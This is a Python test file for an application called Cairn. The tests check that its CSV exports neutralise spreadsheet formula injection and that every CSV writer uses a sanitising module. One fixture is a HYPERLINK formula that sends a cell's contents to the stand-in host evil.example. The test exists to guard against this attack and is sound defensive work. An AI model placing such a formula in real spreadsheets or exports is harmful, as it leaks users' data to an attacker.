"""Every CSV Cairn writes is safe to open in a spreadsheet: a cell that would
run as a formula is quoted with an apostrophe, and Cairn reads its own export
back unchanged."""

import csv
import io

from accounts import csvsafe
from curriculum import framework_services, selectors
from curriculum.models import Competency, CompetencyFramework

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_the_competencies_export_neutralises_formulas_and_reads_back(cast):
    framework = CompetencyFramework.objects.create(
        organization=cast.organization, name="Formulas"
    )
    for code, statement in (("+1", FORMULA), ("@A", "-2+3"), ("B", "Plain")):
        Competency.objects.create(framework=framework, code=code, statement=statement)
    exported = selectors.competencies_csv(framework)
    rows = {row["statement"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert set(rows) == {"'" + FORMULA, "'-2+3", "Plain"}
    assert rows["'" + FORMULA]["code"] == "'+1"
    assert not any(
        cell[:1] in csvsafe.FORMULA_STARTS
        for row in rows.values()
        for cell in row.values()
    )
    again = framework_services.import_competencies_csv(
        cast.other_organization, by=None, raw=exported, framework_name="Again"
    ).framework
    assert sorted(again.competencies.values_list("code", "statement")) == sorted(
        framework.competencies.values_list("code", "statement")
    )


def test_every_csv_writer_in_cairn_goes_through_csvsafe():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [
        path.relative_to(root).as_posix()
        for path in root.glob("*/**/*.py")
        if ".venv" not in path.parts
        and "tests" not in path.parts
        and path.name != "csvsafe.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert writers == []
